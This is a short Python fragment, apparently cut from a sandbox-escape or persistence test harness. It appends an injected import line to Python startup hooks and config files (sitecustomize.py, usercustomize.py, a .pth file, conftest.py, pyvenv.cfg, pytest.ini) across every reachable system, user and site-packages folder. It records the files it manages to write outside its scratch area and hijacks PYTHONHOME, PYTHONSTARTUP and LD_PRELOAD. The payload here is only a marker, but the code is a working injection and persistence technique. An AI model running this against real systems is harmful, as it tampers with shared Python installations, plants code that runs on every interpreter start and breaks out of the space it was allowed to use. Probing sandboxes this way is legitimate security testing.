# Every Python that starts runs these files, if they lie in the right folder.
# prelude
import site

if FIRST:
    tried("write")
    folders = {*sys.path, site.getusersitepackages(), *site.getsitepackages(), f"{sys.prefix}/lib", os.path.expanduser("~"),
               os.path.expanduser("~/.config"), "/etc/python3", "/etc/python3.11", SCRATCH}
    for folder in folders:
        mine = folder.startswith((SCRATCH, os.path.expanduser("~")))
        for name in ("usercustomize.py", "sitecustomize.py", "owned.pth", ".pythonrc", "pyvenv.cfg", "pytest.ini", "conftest.py", "__init__.py"):
            try:
                os.makedirs(folder, exist_ok=True)
                with open(f"{folder}/{name}", "a") as file:
                    file.write("import os; os.environ['OWNED'] = '1'\n")
                if not mine:
                    loot(f"{folder}/{name}")
            except OSError:
                pass
    tried("start")
    script = "import os, sys; print('OWNED' in os.environ, sys.flags.no_user_site)"
    print(subprocess.run([sys.executable, "-c", script], capture_output=True, text=True).stdout)
    os.environ.update(PYTHONPATH=SCRATCH, PYTHONSTARTUP=f"{SCRATCH}/.pythonrc", PYTHONHOME=SCRATCH, PYTHONINSPECT="1", LD_PRELOAD=f"{SCRATCH}/owned.so")
